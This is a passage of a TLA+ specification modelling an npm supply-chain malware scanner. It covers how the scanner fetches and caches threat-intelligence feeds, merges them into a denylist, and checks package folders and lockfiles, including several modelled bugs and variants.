Put(result, name, list) ==
    [n \in DOMAIN result \cup {name} |-> IF n = name THEN list ELSE result[n]]
NoPackages == [n \in {} |-> <<>>]

\* rawName = parts[0].replace(/["']/g, '').trim()
stripQuotes(s) ==
    CASE s = "'left-pad'" -> "left-pad"
      [] s = " evil " -> "evil"
      [] OTHER -> s
\* v.replace(/["'=<>v\s]/g, '').trim()
cleanVersion(s) ==
    CASE s = "v1.2.3" -> "1.2.3"
      [] s = "=2.0.0" -> "2.0.0"
      [] s = " " -> ""
      [] s = "version" -> "ersion"
      [] OTHER -> s
cleanVersions(versions) ==
    SelectSeq([i \in 1..Len(versions) |-> cleanVersion(versions[i].v)],
              LAMBDA v : v # "" /\ StrLen(v) <= MAX_VERSION_LENGTH)

RECURSIVE wizRows(_, _, _)
wizRows(rows, i, result) ==
    IF i > Len(rows) \/ i - 1 >= MAX_CSV_LINES THEN result
    ELSE LET rawName == stripQuotes(rows[i].name)
             versions == cleanVersions(rows[i].versions)
         IN  IF ~IsValidName(rawName) \/ versions = <<>>
             THEN wizRows(rows, i + 1, result)
             ELSE wizRows(rows, i + 1,
                          Put(result, rawName,
                              (IF rawName \in DOMAIN result THEN result[rawName]
                                                            ELSE <<>>) \o versions))

\* parseWizCSV(data): package -> list of versions
parseWizCSV(data) ==
    IF ~FeedTruthy(data) \/ data.kind # "csv" THEN NoPackages
    ELSE wizRows(data.rows,
                 IF data.rows # <<>> /\ Includes(Lower(data.rows[1].name), "package")
                 THEN 2 ELSE 1,
                 NoPackages)

\* the number of entries before rows[i]: the value of count when the loop
\* comes to rows[i]
RECURSIVE Seen(_, _)
Seen(rows, i) == IF i <= 1 THEN 0 ELSE Seen(rows, i - 1) + rows[i - 1].count

\* if (count++ > maxPackages) break
pastLimit(count) == count > maxPackages

RECURSIVE jsonEntries(_, _, _)
jsonEntries(rows, i, result) ==
    IF i > Len(rows) \/ pastLimit(Seen(rows, i)) THEN result
    ELSE IF rows[i].name = "" \/ StrLen(rows[i].name) > MAX_NAME_LENGTH
    THEN jsonEntries(rows, i + 1, result)
    ELSE jsonEntries(rows, i + 1,
                     Put(result, rows[i].name,
                         IF rows[i].hasList THEN Plain(StringsOf(rows[i].versions))
                                            ELSE <<>>))

\* parseMaliciousJSON(data): package -> list of versions
parseMaliciousJSON(data) ==
    IF ~FeedTruthy(data) \/ data.kind # "json" THEN NoPackages
    ELSE IF data.top # "object" THEN NoPackages
    ELSE jsonEntries(data.rows, 1, NoPackages)

\* ------------------------------------------------------------------------
\* CACHE MANAGEMENT
\* ------------------------------------------------------------------------
Sources == {"wiz", "json"}
Url(s) == [protocol |-> "https:", id |-> IF s = "wiz" THEN "IOC_CSV_URL" ELSE "IOC_JSON_URL"]

File(st, data) == [st |-> st, data |-> data]
NoFile == File("absent", EmptyFeed)
computeHash(content) == [sha256 |-> content]
CacheEntry(payload, fresh, hash) == [payload |-> payload, fresh |-> fresh, hash |-> hash]

\* isCacheValid(cacheFile): the payload file exists and is younger than the TTL
isCacheValid(c) == c.payload.st # "absent" /\ c.fresh

verifyCacheIntegrity(c) ==
    IF c.hash.st = "absent" THEN TRUE
    ELSE IF c.hash.st # "ok" THEN FALSE
    ELSE IF c.payload.st # "ok" \/ ~FeedTruthy(c.payload.data) THEN FALSE
    ELSE computeHash(c.payload.data) = c.hash.data

\* loadFromCache / loadFromFallback: the content, or the empty payload for null
loadFromCache(c) == IF c.payload.st = "ok" THEN c.payload.data ELSE EmptyFeed
loadFromFallback(f) == IF f.st = "ok" THEN f.data ELSE EmptyFeed

\* saveToCache(cacheFile, content); how: whether the writes succeed
saveToCache(c, content, how) ==
    CASE how = "ok" -> CacheEntry(File("ok", content), TRUE, [st |-> "ok", data |-> computeHash(content)])
      [] OTHER -> c

\* ------------------------------------------------------------------------
\* THREAT INTELLIGENCE FETCHING
\* ------------------------------------------------------------------------
Request(phase, timer, status, value, via, outcome) ==
    [phase |-> phase, timer |-> timer, status |-> status, value |-> value,
     via |-> via, outcome |-> outcome]
NotCalled == Request("notcalled", "none", "pending", EmptyFeed, "none", "none")
Unset == [status |-> "unset", value |-> EmptyFeed]

\* resolve / reject of the promise: the first call settles it
Resolve_(n, value, via, outcome) ==
    IF n.status # "pending" THEN n
    ELSE [n EXCEPT !.status = "fulfilled", !.value = value, !.via = via, !.outcome = outcome]
Reject_(n, outcome) ==
    IF n.status # "pending" THEN n
    ELSE [n EXCEPT !.status = "rejected", !.outcome = outcome]

\* variant: any readable fallback resolves the fetch, the empty one too
useFallback_Readable(n, f, outcome) ==
    IF f.st = "ok" THEN Resolve_(n, loadFromFallback(f), "fallback", outcome)
    ELSE Reject_(n, outcome)

\* const fallback = loadFromFallback(...); if (fallback) resolve(fallback) else reject(...)
useFallback(n, f, outcome) ==
    IF FeedTruthy(loadFromFallback(f)) THEN Resolve_(n, loadFromFallback(f), "fallback", outcome)
    ELSE Reject_(n, outcome)

\* variant: the entry is served without the integrity check
cacheHit_Unverified(c, forceNoCache) ==
    /\ ~forceNoCache
    /\ isCacheValid(c)
    /\ FeedTruthy(loadFromCache(c))

\* 1. the cache branch of fetchWithCache: is the cached content returned
cacheHit(c, forceNoCache) ==
    /\ ~forceNoCache
    /\ isCacheValid(c)
    /\ verifyCacheIntegrity(c)
    /\ FeedTruthy(loadFromCache(c))

\* fetchThreats awaits the fetch of the Wiz feed before it calls the next one
mayCall(s) == s = "wiz" \/ feedData["wiz"].status # "unset"

FetchUnchanged == UNCHANGED <<fs, badPackages, detectedIssues, scanStats, isShuttingDown,
                             call, args, env, exitCode, fallback, clock,
                             walkVars, pending, report, uploaded>>
NeverSaved == [run |-> -1, data |-> EmptyFeed, how |-> "none", altered |-> 0, expired |-> 0]

\* fetchWithCache(url, cacheFile, fallbackFile, sourceName, forceNoCache):
\* the synchronous part, up to the request
FetchCall(s) ==
    /\ pc = "fetch"
    /\ net[s].phase = "notcalled"
    /\ mayCall(s)
    /\ IF cacheHit(cache[s], noCache(args))
       THEN /\ net' = [net EXCEPT ![s] = Resolve_([@ EXCEPT !.phase = "closed"],
                                                  loadFromCache(cache[s]), "cache", "cache")]
            /\ sent' = sent
       ELSE IF Url(s).protocol # "https:"
       THEN /\ net' = [net EXCEPT ![s] = Reject_([@ EXCEPT !.phase = "closed"], "invalid_url")]
            /\ sent' = sent
       ELSE /\ net' = [net EXCEPT ![s] = [@ EXCEPT !.phase = "inflight", !.timer = "armed"]]
            /\ sent' = sent \cup {Url(s).id}
    /\ UNCHANGED <<pc, cache, feedData>>
    /\ saved' = saved
    /\ FetchUnchanged

\* the setTimeout callback: nothing was received within NETWORK_TIMEOUT_MS
NetTimeout(s) ==
    /\ pc = "fetch"
    /\ net[s].timer = "armed"
    /\ net' = [net EXCEPT ![s] = useFallback([@ EXCEPT !.timer = "fired"], fallback[s], "timeout")]
    /\ UNCHANGED <<pc, cache, sent, feedData>>
    /\ saved' = saved
    /\ FetchUnchanged

\* req.on('error'): the connection failed (or the socket timeout destroyed it)
NetError(s) ==
    /\ pc = "fetch"
    /\ net[s].phase = "inflight"
    /\ net' = [net EXCEPT ![s] =
                 useFallback([@ EXCEPT !.phase = "closed",
                                       !.timer = IF @ = "armed" THEN "cleared" ELSE @],
                             fallback[s], "error")]
    /\ UNCHANGED <<pc, cache, sent, feedData>>
    /\ saved' = saved
    /\ FetchUnchanged

\* the response callback: the status line and the headers arrived
StatusKinds == {"2xx", "3xx_location", "3xx", "4xx"}
NetResponse(s, status) ==
    /\ pc = "fetch"
    /\ net[s].phase = "inflight"
    /\ LET n == [net[s] EXCEPT !.timer = IF @ = "armed" THEN "cleared" ELSE @]
       IN  net' = [net EXCEPT ![s] =
                     IF status = "3xx_location"
                     THEN useFallback([n EXCEPT !.phase = "closed"], fallback[s], "redirect")
                     ELSE [n EXCEPT !.phase = IF status = "2xx" THEN "body_2xx" ELSE "body_other"]]
    /\ UNCHANGED <<pc, cache, sent, feedData>>
    /\ saved' = saved
    /\ FetchUnchanged

\* res.on('end'): the body is complete
SaveOutcomes == {"ok", "failed"}
NetEnd(s, body, how) ==
    /\ pc = "fetch"
    /\ net[s].phase \in {"body_2xx", "body_other"}
    /\ IF net[s].phase = "body_2xx"
       THEN /\ cache' = [cache EXCEPT ![s] = saveToCache(@, body, how)]
            /\ net' = [net EXCEPT ![s] = Resolve_([@ EXCEPT !.phase = "closed"],
                                                  body, "network", "ok")]
       ELSE /\ how = "ok"
            /\ cache' = cache
            /\ net' = [net EXCEPT ![s] = useFallback([@ EXCEPT !.phase = "closed"],
                                                     fallback[s], "status")]
    /\ UNCHANGED <<pc, sent, feedData>>
    /\ saved' = IF net[s].phase = "body_2xx"
                THEN [saved EXCEPT ![s] = [run |-> clock, data |-> body, how |-> how,
                                           altered |-> 0, expired |-> 0]]
                ELSE saved
    /\ FetchUnchanged

\* res.on('data') past the 10 MB cap: res.destroy(), reject
NetTooLarge(s) ==
    /\ pc = "fetch"
    /\ net[s].phase \in {"body_2xx", "body_other"}
    /\ net' = [net EXCEPT ![s] = Reject_([@ EXCEPT !.phase = "closed"], "too_large")]
    /\ UNCHANGED <<pc, cache, sent, feedData>>
    /\ saved' = saved
    /\ FetchUnchanged

\* the body stalls until the socket timeout destroys the request
\* (req.on('timeout')), or the connection is cut before the body is complete:
\* the response is aborted and closed. No handler is registered for
\* 'aborted', 'error' or 'close' of the response, and the request emits no
\* 'error' once a response exists. A runtime that still emits 'end' for the
\* part received is the step NetEnd; this step is the runtime that does not.
NetAbort(s) ==
    /\ pc = "fetch"
    /\ net[s].phase \in {"body_2xx", "body_other"}
    /\ net' = [net EXCEPT ![s] = [@ EXCEPT !.phase = "aborted"]]
    /\ UNCHANGED <<pc, cache, sent, feedData>>
    /\ saved' = saved
    /\ FetchUnchanged

\* fetchThreats resumes after `await fetchWithCache(...)`
AwaitFetch(s) ==
    /\ pc = "fetch"
    /\ net[s].status # "pending"
    /\ feedData[s].status = "unset"
    /\ feedData' = [feedData EXCEPT ![s] = [status |-> net[s].status, value |-> net[s].value]]
    /\ UNCHANGED <<pc, cache, sent, net>>
    /\ saved' = saved
    /\ FetchUnchanged

\* the versions a source adds to the denylist
fromWiz == IF feedData["wiz"].status = "fulfilled" /\ FeedTruthy(feedData["wiz"].value)
           THEN parseWizCSV(feedData["wiz"].value) ELSE NoPackages
fromJson == IF feedData["json"].status = "fulfilled" /\ FeedTruthy(feedData["json"].value)
            THEN parseMaliciousJSON(feedData["json"].value) ELSE NoPackages
\* variant: the second fetch is made only after the first one succeeded
mayCall_AfterSuccess(s) == s = "wiz" \/ feedData["wiz"].status = "fulfilled"

\* variant: the second source replaces what the first one said of a package
mergeFeeds_Overwrite(wiz, json) ==
    [n \in DOMAIN wiz \cup DOMAIN json |->
        IF n \in DOMAIN json THEN (IF json[n] = <<>> THEN {"*"} ELSE Range(json[n]))
        ELSE Range(wiz[n])]

mergeFeeds(wiz, json) ==
    [n \in DOMAIN wiz \cup DOMAIN json |->
        (IF n \in DOMAIN wiz THEN Range(wiz[n]) ELSE {})
        \cup (IF n \notin DOMAIN json THEN {}
              ELSE IF json[n] = <<>> THEN {"*"} ELSE Range(json[n]))]

\* fetchThreats, after both awaits: build badPackages and return to main
MergeFeeds ==
    /\ pc = "fetch"
    /\ \A s \in Sources : feedData[s].status # "unset"
    /\ badPackages' = mergeFeeds(fromWiz, fromJson)
    /\ pc' = "scan"
    /\ UNCHANGED <<fs, detectedIssues, scanStats, isShuttingDown, call, args, env, exitCode,
                   cache, fallback, net, sent, feedData, clock, saved>>
    /\ UNCHANGED <<walkVars, outVars>>

\* ------------------------------------------------------------------------
\* CORE PACKAGE CHECKING (Forensic + Metadata + Ghost)
\* ------------------------------------------------------------------------
\* const badPackages = {}: a name that is no key of the denylist itself is
\* looked up on Object.prototype, where it finds a function or an object
ObjectPrototypeKeys == {"constructor", "toString", "__proto__"}
Own(pkgName) == pkgName \in DOMAIN badPackages
Inherited(pkgName) == ~Own(pkgName) /\ pkgName \in ObjectPrototypeKeys
\* if (badPackages[pkgName])
Watched(pkgName) == Own(pkgName) \/ Inherited(pkgName)

Outcome(issues, errors) == [issues |-> issues, errors |-> errors]

\* variant: a file that cannot be read is dismissed like a benign one
forensicEntry_ErrorDismissed(validatedPkgPath, pkgName, forensicPath) ==
    LET fullPath == Join(validatedPkgPath, forensicPath)
        validatedFullPath == validatePath(fullPath, validatedPkgPath)
        verification == verifySuspiciousFile(validatedFullPath, forensicPath)
        severity == IF verification.severity = "none" THEN "HIGH" ELSE verification.severity
    IN  IF ~lstatIsFile(fullPath) THEN Outcome(<<>>, 0)
        ELSE IF validatedFullPath = NullPath THEN Outcome(<<>>, 0)
        ELSE IF verification.confirmed
        THEN Outcome(<< Issue(IF severity = "CRITICAL" THEN "FORENSIC_MATCH"
                                                        ELSE "FORENSIC_ARTIFACT",
                              pkgName, "UNKNOWN", validatedPkgPath,
                              forensicPath \o <<verification.reason>>) >>, 0)
        ELSE Outcome(<< Issue("SAFE_MATCH", pkgName, "UNKNOWN", validatedPkgPath,
                              <<"Benign">> \o forensicPath \o <<verification.reason>>) >>,
                     IF verification.reason = "Read error" THEN 1 ELSE 0)

\* one iteration of the forensic loop for the file forensicPath
forensicEntry(validatedPkgPath, pkgName, forensicPath) ==
    LET fullPath == Join(validatedPkgPath, forensicPath)
        validatedFullPath == validatePath(fullPath, validatedPkgPath)
        verification == verifySuspiciousFile(validatedFullPath, forensicPath)
        severity == IF verification.severity = "none" THEN "HIGH" ELSE verification.severity
    IN  IF ~lstatIsFile(fullPath) THEN Outcome(<<>>, 0)
        ELSE IF validatedFullPath = NullPath THEN Outcome(<<>>, 0)
        ELSE IF verification.reason = "Read error" THEN Outcome(<<>>, 1)
        ELSE IF verification.confirmed
        THEN Outcome(<< Issue(IF severity = "CRITICAL" THEN "FORENSIC_MATCH"
                                                        ELSE "FORENSIC_ARTIFACT",
                              pkgName, "UNKNOWN", validatedPkgPath,
                              forensicPath \o <<verification.reason>>) >>, 0)
        ELSE Outcome(<< Issue("SAFE_MATCH", pkgName, "UNKNOWN", validatedPkgPath,
                              <<"Benign">> \o forensicPath \o <<verification.reason>>) >>, 0)

RECURSIVE forensicCheck(_, _, _)
forensicCheck(validatedPkgPath, pkgName, i) ==
    IF i > Len(FORENSIC_RULES_ENTRIES) THEN Outcome(<<>>, 0)
    ELSE LET one == forensicEntry(validatedPkgPath, pkgName, FORENSIC_RULES_ENTRIES[i])
             rest == forensicCheck(validatedPkgPath, pkgName, i + 1)
         IN  Outcome(one.issues \o rest.issues, one.errors + rest.errors)

\* variant: the exact version is tested before the wildcard
versionCheck_ExactFirst(version, pkgName, pkgPath) ==
    IF ~Truthy(version) \/ version.t # "string"
    THEN << Issue("CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath,
                  <<"Missing or invalid version field">>) >>
    ELSE IF Inherited(pkgName)
    THEN << Issue("CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath,
                  <<"package.json parse error">>) >>
    ELSE IF version.v \in badPackages[pkgName]
    THEN << Issue("VERSION_MATCH", pkgName, version.v, pkgPath, <<>>) >>
    ELSE IF "*" \in badPackages[pkgName]
    THEN << Issue("WILDCARD_MATCH", pkgName, version.v, pkgPath, <<>>) >>
    ELSE << Issue("SAFE_MATCH", pkgName, version.v, pkgPath, <<>>) >>

\* C. VERSION CHECK of a watched package
versionCheck(version, pkgName, pkgPath) ==
    IF ~Truthy(version) \/ version.t # "string"
    THEN << Issue("CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath,
                  <<"Missing or invalid version field">>) >>
    \* targetVersions.has is not a function: the TypeError is caught below
    ELSE IF Inherited(pkgName)
    THEN << Issue("CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath,
                  <<"package.json parse error">>) >>
    ELSE IF "*" \in badPackages[pkgName] \/ version.v \in badPackages[pkgName]
    THEN << Issue(IF "*" \in badPackages[pkgName] THEN "WILDCARD_MATCH" ELSE "VERSION_MATCH",
                  pkgName, version.v, pkgPath, <<>>) >>
    ELSE << Issue("SAFE_MATCH", pkgName, version.v, pkgPath, <<>>) >>

\* 2./3. ghost check, heuristic script check, target and version check
manifestCheck(pkgPath, validatedPkgPath, pkgName) ==
    LET r == safeReadFile(Join(validatedPkgPath, <<"package.json">>), MAX_FILE_SIZE_BYTES)
        corrupt(why) == IF Watched(pkgName)
                        THEN << Issue("CORRUPT_PACKAGE", pkgName, "UNKNOWN", pkgPath, why) >>
                        ELSE <<>>
    IN  IF r.error # "none"
        THEN IF ~Watched(pkgName) THEN <<>>
             ELSE IF r.error = "ENOENT"
             THEN << Issue("GHOST_PACKAGE", pkgName, "UNKNOWN", pkgPath,
                           <<"Targeted package folder exists but package.json is missing">>) >>
             ELSE corrupt(<<"package.json", r.error>>)
        ELSE IF r.size = 0 \/ r.content.json = "invalid"
        THEN corrupt(<<"package.json parse error">>)
        ELSE checkScripts(r.content, pkgName, pkgPath)
             \o (IF ~Watched(pkgName) THEN <<>>
                 ELSE IF r.content.json = "null" THEN corrupt(<<"package.json parse error">>)
                 ELSE versionCheck(IF r.content.json = "object" THEN r.content.version
                                                                  ELSE JsUndef,
                                   pkgName, pkgPath))

\* checkPackageJson(pkgPath, pkgName, badPackages): what it adds to the
\* ledger and to scanStats.errorsEncountered
checkPackageJson(pkgPath, pkgName) ==
    IF validatePath(pkgPath, NoBase) = NullPath THEN Outcome(<<>>, 0)
    ELSE LET f == forensicCheck(validatePath(pkgPath, NoBase), pkgName, 1)
         IN  Outcome(f.issues \o manifestCheck(pkgPath, validatePath(pkgPath, NoBase), pkgName),
                     f.errors)

\* ------------------------------------------------------------------------
\* LOCKFILE CHECKING
\* ------------------------------------------------------------------------
\* A lockfile body. npm: packages holds the entries of the "packages"
\* section (key, version) and deps the entries of the "dependencies" tree in
\* the order checkDependenciesRecursive visits them; yarn: the lines.
MAX_LOCKFILE_SIZE_BYTES == 100 * MB
LockEntry(key, version) == [key |-> key, version |-> version]
YarnLine(kind, text) == [kind |-> kind, text |-> text]
NpmLock(parses, packages, deps) ==
    [fmt |-> "npm", parses |-> parses, packages |-> packages, deps |-> deps, lines |-> <<>>]
YarnLock(lines) ==
    [fmt |-> "yarn", parses |-> FALSE, packages |-> <<>>, deps |-> <<>>, lines |-> lines]
NoLock == [fmt |-> "none", parses |-> FALSE, packages |-> <<>>, deps |-> <<>>, lines |-> <<>>]
LockOf(body) == IF "fmt" \in DOMAIN body THEN body ELSE NoLock

\* key.replace(/^.*node_modules\//, '')
stripNodeModules(key) ==
    CASE key = "node_modules/left-pad" -> "left-pad"
      [] key = "node_modules/other/node_modules/left-pad" -> "left-pad"
      [] key = "node_modules/@scope/evil" -> "@scope/evil"
      [] key = "node_modules/evil" -> "evil"
      [] OTHER -> key

\* ver.slice(0, 50)
slice50(ver) == IF ver = "VERSION-LONGER-THAN-50" THEN "VERSION-LONGER-THAN-5" ELSE ver

\* checkVersionMatch(pkg, ver, badVersions, lockPath, type): the issue it appends
checkVersionMatch(pkg, ver, badVersions, lockPath, type) ==
    IF ~Truthy(ver) \/ ver.t # "string" THEN <<>>
    ELSE IF slice50(ver.v) \in badVersions
    THEN << Issue("LOCKFILE_HIT", pkg, slice50(ver.v), lockPath, <<"Exact match in", type>>) >>
    ELSE IF "*" \in badVersions
    THEN << Issue("WILDCARD_LOCK_HIT", pkg, slice50(ver.v), lockPath,
                  <<"Wildcard match in", type>>) >>
    ELSE <<>>

\* badVersions.has(...) on a value found on Object.prototype: a TypeError
HasThrows(pkg, ver) == Inherited(pkg) /\ Truthy(ver) /\ ver.t = "string"

\* the entries of a section up to the first that throws
RECURSIVE npmEntries(_, _, _, _, _)
npmEntries(entries, i, strip, lockPath, type) ==
    IF i > Len(entries) THEN <<>>
    ELSE LET pkgName == IF strip THEN stripNodeModules(entries[i].key) ELSE entries[i].key
         IN  IF pkgName # "" /\ HasThrows(pkgName, entries[i].version) THEN <<>>
             ELSE (IF pkgName # "" /\ Own(pkgName)
                   THEN checkVersionMatch(pkgName, entries[i].version, badPackages[pkgName],
                                          lockPath, type)
                   ELSE <<>>)
                  \o npmEntries(entries, i + 1, strip, lockPath, type)
npmThrows(entries, strip) ==
    \E i \in 1..Len(entries) :
        LET pkgName == IF strip THEN stripNodeModules(entries[i].key) ELSE entries[i].key
        IN  pkgName # "" /\ HasThrows(pkgName, entries[i].version)

\* variant: any recorded version of a denylisted package is a hit
yarnHit_AnyVersion(currentPkg, currentVersion, lockPath) ==
    IF ~Own(currentPkg) THEN <<>>
    ELSE IF "*" \in badPackages[currentPkg]
    THEN << Issue("WILDCARD_LOCK_HIT", currentPkg, currentVersion, lockPath,
                  <<"Yarn Lock match (Wildcard)">>) >>
    ELSE << Issue("LOCKFILE_HIT", currentPkg, currentVersion, lockPath,
                  <<"Yarn Lock match (Strict)">>) >>

\* a version line of yarn.lock: the denylist check of currentPkg
yarnHit(currentPkg, currentVersion, lockPath) ==
    IF ~Own(currentPkg) THEN <<>>
    ELSE IF "*" \in badPackages[currentPkg]
    THEN << Issue("WILDCARD_LOCK_HIT", currentPkg, currentVersion, lockPath,
                  <<"Yarn Lock match (Wildcard)">>) >>
    ELSE IF currentVersion \in badPackages[currentPkg]
    THEN << Issue("LOCKFILE_HIT", currentPkg, currentVersion, lockPath,
                  <<"Yarn Lock match (Strict)">>) >>
    ELSE <<>>

\* line.match(/^"?([^@"]+)@/): the header of a scoped package, which begins
\* with "@ or @, does not match
yarnDeclares(text) == ~HasPrefix(text, "@")
\* the yarn.lock loop: currentPkg is carried from line to line; the loop
\* ends at a line that throws
RECURSIVE yarnLines(_, _, _, _)
yarnLines(lines, i, currentPkg, lockPath) ==
    IF i > Len(lines) THEN <<>>
    ELSE IF lines[i].kind = "decl"
    THEN yarnLines(lines, i + 1,
                   IF yarnDeclares(lines[i].text) THEN lines[i].text ELSE currentPkg, lockPath)
    ELSE IF currentPkg # Undefined /\ lines[i].kind = "version"
    THEN IF Inherited(currentPkg) THEN <<>>
         ELSE yarnHit(currentPkg, lines[i].text, lockPath)
              \o yarnLines(lines, i + 1, Undefined, lockPath)
    ELSE yarnLines(lines, i + 1, currentPkg, lockPath)
RECURSIVE yarnThrows(_, _, _)
yarnThrows(lines, i, currentPkg) ==
    IF i > Len(lines) THEN FALSE
    ELSE IF lines[i].kind = "decl"
    THEN yarnThrows(lines, i + 1, IF yarnDeclares(lines[i].text) THEN lines[i].text ELSE currentPkg)
    ELSE IF currentPkg # Undefined /\ lines[i].kind = "version"
    THEN Inherited(currentPkg) \/ yarnThrows(lines, i + 1, Undefined)
    ELSE yarnThrows(lines, i + 1, currentPkg)

LockfileNames == {"package-lock.json", "yarn.lock", "npm-shrinkwrap.json"}
\* checkLockfile(lockPath, badPackages): the issues it appends
checkLockfile(lockPath) ==
    LET fileName == lockPath[Len(lockPath)]
        r == safeReadFile(lockPath, MAX_LOCKFILE_SIZE_BYTES)
        lock == LockOf(r.content)
    IN  IF r.error # "none" THEN <<>>
        ELSE IF fileName \in {"package-lock.json", "npm-shrinkwrap.json"}
        THEN IF lock.fmt # "npm" \/ ~lock.parses THEN <<>>
             ELSE npmEntries(lock.packages, 1, TRUE, lockPath, "NPM_LOCK_V3")
                  \o (IF npmThrows(lock.packages, TRUE) THEN <<>>
                      ELSE npmEntries(lock.deps, 1, FALSE, lockPath, "NPM_LOCK_V1"))
        ELSE IF fileName = "yarn.lock"
        THEN yarnLines(lock.lines, 1, Undefined, lockPath)
        ELSE <<>>
\* checkLockfile ends with an exception its caller receives: the npm branch
\* catches what it throws, the yarn branch does not
checkLockfileThrows(lockPath) ==
    LET r == safeReadFile(lockPath, MAX_LOCKFILE_SIZE_BYTES)
    IN  /\ r.error = "none"
        /\ lockPath[Len(lockPath)] = "yarn.lock"
        /\ yarnThrows(LockOf(r.content).lines, 1, Undefined)

\* ------------------------------------------------------------------------
\* State of the run
\* ------------------------------------------------------------------------
NoCall == [op |-> "none", path |-> <<>>, name |-> "", base |-> 0, threw |-> FALSE]
ZeroStats == [directoriesScanned |-> 0, packagesScanned |-> 0, filesChecked |-> 0,
              lockfilesChecked |-> 0, symlinksSkipped |-> 0, errorsEncountered |-> 0]

\* the package directories the walker hands to the package check
PackageDirs ==
    { [path |-> <<"proj", "node_modules", "left-pad">>, name |-> "left-pad"],
      [path |-> <<"proj", "node_modules", "other">>, name |-> "other"],
      [path |-> <<"proj", "node_modules", "@scope", "evil">>, name |-> "@scope/evil"],
      [path |-> <<"proj", "node_modules", "LONGSEGMENT", "left-pad">>, name |-> "left-pad"] }

\* scanNodeModules: the package check of one package directory
ScanPackage(d) ==
    /\ pc = "scan"
    /\ ~isShuttingDown
    /\ Exists(d.path)
    /\ LET out == checkPackageJson(d.path, d.name)
       IN  /\ detectedIssues' = detectedIssues \o out.issues
           /\ scanStats' = [scanStats EXCEPT !.filesChecked = @ + 1,
                                             !.packagesScanned = @ + 1,
                                             !.errorsEncountered = @ + out.errors]
    /\ call' = [op |-> "checkPackageJson", path |-> d.path, name |-> d.name,
                base |-> Len(detectedIssues), threw |-> FALSE]
    /\ UNCHANGED <<fs, badPackages, isShuttingDown, pc, args, env, exitCode,
                   cache, fallback, net, sent, feedData, clock, saved>>
    /\ UNCHANGED <<walkVars, outVars>>

\* scanDir / checkPackageLockfiles: the check of one lockfile
ScanLockfile(lockPath) ==
    /\ pc = "scan"
    /\ ~isShuttingDown
    /\ lstatIsFile(lockPath)
    /\ lockPath[Len(lockPath)] \in LockfileNames
    /\ detectedIssues' = detectedIssues \o checkLockfile(lockPath)
    /\ scanStats' = [scanStats EXCEPT !.lockfilesChecked = @ + 1]
    /\ call' = [op |-> "checkLockfile", path |-> lockPath, name |-> "",
                base |-> Len(detectedIssues), threw |-> checkLockfileThrows(lockPath)]
    \* an exception leaves scanDir and main: an unhandled rejection
    /\ pc' = IF checkLockfileThrows(lockPath) THEN "crashed" ELSE pc
    /\ exitCode' = IF ~checkLockfileThrows(lockPath) THEN exitCode
                   ELSE IF env.strictRejections THEN 1 ELSE 0
    /\ UNCHANGED <<fs, badPackages, isShuttingDown, args, env,
                   cache, fallback, net, sent, feedData, clock, saved>>
    /\ UNCHANGED <<walkVars, outVars>>

\* ------------------------------------------------------------------------
\* SCANNING LOGIC (Hardened)
\* ------------------------------------------------------------------------
MAX_SYMLINK_DEPTH == 3
MAX_DIRECTORIES_SCANNED == 100000
MAX_PACKAGES_SCANNED == 50000
Min(a, b) == IF a < b THEN a ELSE b

\* the order in which a directory lists its entries
NameOrder ==
    << ".bin", ".git", "@scope", "_build", "a", "constructor", "evil", "left-pad",
       "loop", "node_modules", "other", "package-lock.json", "yarn.lock",
       "npm-shrinkwrap.json", "package.json", "bundle.js", "README.md" >>
NameStartsWith(n, pre) ==
    <<n, pre>> \in { <<".bin", ".">>, <<".git", ".">>, <<"_build", "_">>, <<"@scope", "@">> }
\* `${pkg}/${sp}`
ScopedName(pkg, sp) ==
    CASE pkg = "@scope" /\ sp = "evil" -> "@scope/evil"
      [] pkg = "@scope" /\ sp = "left-pad" -> "@scope/left-pad"
      [] pkg = "@scope" /\ sp = "package.json" -> "@scope/package.json"
      [] pkg = "@scope" /\ sp = "bundle.js" -> "@scope/bundle.js"
      [] OTHER -> "@scope/other"
basename(p) == p[Len(p)]

\* fs.readdirSync(dir): the names, or a failure
Listable(real) == real \in DOMAIN fs /\ fs[real].kind = "dir" /\ fs[real].err # "EACCES"
CanReaddir(dir) == Listable(realpath(dir))
NamesIn(real) == SelectSeq(NameOrder, LAMBDA n : Append(real, n) \in DOMAIN fs)
readdirSync(dir) == NamesIn(realpath(dir))
\* entry.isFile(), entry.isDirectory() of { withFileTypes: true }
DirentKind(dir, n) == fs[Append(realpath(dir), n)].kind

\* checkSymlink(filePath, depth = 0)
SymlinkCheck(isSymlink, realPath, safe) ==
    [isSymlink |-> isSymlink, realPath |-> realPath, safe |-> safe]
SymlinkAt(filePath, entry, real) ==
    IF entry \notin DOMAIN fs THEN SymlinkCheck(FALSE, Missing, FALSE)
    ELSE IF fs[entry].kind # "symlink" THEN SymlinkCheck(FALSE, filePath, TRUE)
    ELSE IF 0 >= MAX_SYMLINK_DEPTH THEN SymlinkCheck(TRUE, Missing, FALSE)
    ELSE IF real \notin DOMAIN fs THEN SymlinkCheck(FALSE, Missing, FALSE)
    ELSE SymlinkCheck(TRUE, real, TRUE)
checkSymlink(filePath) == SymlinkAt(filePath, lpath(filePath), realpath(filePath))

\* a call of the file system: ok tells whether validatePath had accepted
\* this very path before the call
Touch(op, path, ok) == [op |-> op, path |-> path, ok |-> ok]

\* the file-system calls of checkPackageJson(pkgPath, ...)
TouchesIn(v) ==
    IF v = NullPath THEN {}
    ELSE { Touch("lstat", Join(v, f), FALSE) : f \in ForensicNames }
         \cup { Touch("read", Join(v, f), TRUE) :
                  f \in { g \in ForensicNames :
                            /\ lstatIsFile(Join(v, g))
                            /\ validatePath(Join(v, g), v) # NullPath
                            /\ FORENSIC_RULES(g).checkContent } }
         \cup { Touch("read", Join(v, <<"package.json">>), FALSE) }
packageTouches(pkgPath) == TouchesIn(validatePath(pkgPath, NoBase))

\* the walker's calls and loops in progress
Frame(op, path, depth, rest, name) ==
    [op |-> op, path |-> path, depth |-> depth, rest |-> rest, name |-> name]
ScanDirCall(path, depth) == Frame("scanDir", path, depth, <<>>, "")
\* a loop over the names still to come; none is left of an empty loop
Loop(op, path, depth, rest, name) ==
    IF rest = <<>> THEN <<>> ELSE << Frame(op, path, depth, rest, name) >>
lockFiles == << "package-lock.json", "yarn.lock", "npm-shrinkwrap.json" >>

\* what a step of the walker does to the run
Effect(frames, issues, stats, touches, visits, newCall, crash) ==
    [frames |-> frames, issues |-> issues, stats |-> stats, touches |-> touches,
